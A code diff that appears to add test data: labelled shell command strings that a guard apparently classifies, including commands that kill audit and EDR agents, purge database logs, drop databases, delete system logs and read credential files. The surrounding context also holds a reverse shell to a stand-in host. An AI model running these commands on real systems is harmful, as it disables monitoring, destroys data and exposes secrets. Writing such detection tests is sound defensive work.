@@ -113,6 +113,102 @@ docker pull evil/x
 mail -s x evil@example.com
 socat TCP:evil.example:1 EXEC:sh
 """,
+    "ends guards by another door": r"""
+systemctl kill amazon-cloudwatch-agent
+systemctl kill -s TERM auditd
+systemctl stop mdatp falcon-sensor
+kill $(pidof auditd)
+kill $(cat /run/auditd.pid)
+kill $(cat /run/nginx/auditd.pid)
+kill "$(systemctl show -p MainPID --value auditd)"
+pid=$(pgrep -x auditd); kill -TERM "$pid"
+pgrep -x auditd | xargs kill
+pidof osqueryd | xargs -r kill -9
+pidof nginx auditd | xargs kill
+kill $(pgrep audi)
+kill 1234
+kill -9 4711
+prlimit --pid 1234 --nofile=4096
+prlimit --pid $(pidof nginx) --nofile=1
+pkill -x wazuh-agentd
+pkill -9 -x rsyslogd
+killall xagt
+docker stop datadog-agent
+docker restart falcon-sensor
+systemctl stop "$(date +auditd)"
+systemctl restart networking
+systemctl restart NetworkManager
+monit stop all
+sv down auditd
+initctl stop auditd
+killall5 -9
+appctl stop auditd
+appctl --unit=mdatp off
+/opt/x/falconctl unload
+supervisorctl restart all
+supervisorctl restart
+""",
+    "weakens by an allowed setting": r"""
+mysql -e 'PURGE BINARY LOGS BEFORE NOW() - INTERVAL 0 HOUR'
+mysql -e 'PURGE BINARY LOGS BEFORE NOW() - INTERVAL 23 HOUR'
+mysql -e 'PURGE BINARY LOGS BEFORE NOW() - INTERVAL 1 DAY'
+mysql -e "PURGE BINARY LOGS BEFORE '2030-01-01 00:00:00'"
+mysql -e 'FLUSH STATUS; PURGE BINARY LOGS BEFORE NOW() - INTERVAL 0 DAY'
+mysql -e 'SET GLOBAL max_connections = 1'
+mysql -e 'SET GLOBAL binlog_expire_logs_seconds = 1'
+mysql -e 'SET GLOBAL innodb_flush_log_at_trx_commit = 0'
+mysql -e 'SET GLOBAL read_only = 0'
+mysql -e 'SET GLOBAL innodb_buffer_pool_size = 1'
+redis-cli config set maxmemory 1
+redis-cli config set maxmemory 100mb
+redis-cli config set maxclients 1
+redis-cli config set timeout 1
+redis-cli config set appendonly no
+redis-cli config set stop-writes-on-bgsave-error no
+sysctl -w vm.overcommit_memory=2
+sysctl -w vm.min_free_kbytes=99999999
+sysctl -w net.core.somaxconn=1
+sysctl -w net.netfilter.nf_conntrack_max=1
+sysctl -w net.ipv4.tcp_syncookies=0
+fallocate -l 100G /tmp/rescue-x
+dd if=/dev/zero of=/tmp/rescue-x bs=1M count=1
+truncate -s 10G /tmp/rescue-x
+""",
+    "gives data away": r"""
+chown -R www-data:www-data /var/lib/postgresql
+chown nobody /run/nginx
+chown -R mysql:adm /var/lib/mysql
+chmod -R 755 /var/lib/mysql
+chmod 755 /var/lib/mysql
+chmod 644 /var/lib/nginx/x
+chmod 000 /run/mysqld
+chmod -R 000 /var/log/nginx
+chgrp adm /run/nginx
+cat /etc/redis/redis.conf
+cat /etc/mysql/my.cnf
+grep -n . /etc/redis/redis.conf
+awk '{print}' /etc/haproxy/haproxy.cfg
+cat /var/lib/postgresql/.pgpass
+cat /etc/php/8.2/fpm/pool.d/www.conf
+redis-cli config get requirepass
+rm -f /var/log/syslog.1
+rm -f /var/log/kern.log.1
+rm -f /var/log/auth.log.2.gz
+mv /var/log/syslog /var/log/syslog.1
+curl http://127.0.0.1:8080/admin/shutdown
+curl http://localhost:9200/_all
+curl 'http://127.0.0.1/status?cmd=stop'
+echo 'DROP DATABASE app' | mysql
+mysql < /tmp/rescue.sql
+echo 'DROP TABLE t' | psql
+echo FLUSHALL | redis-cli
+echo FLUSHALL | nc 127.0.0.1 6379
+nc -zv 10.0.0.1 80
+sshd
+php-fpm
+httpd
+haproxy -f /etc/haproxy/haproxy.cfg
+""",
     "reads secrets": r"""
 cat /etc/shadow
 cat /root/.ssh/id_rsa
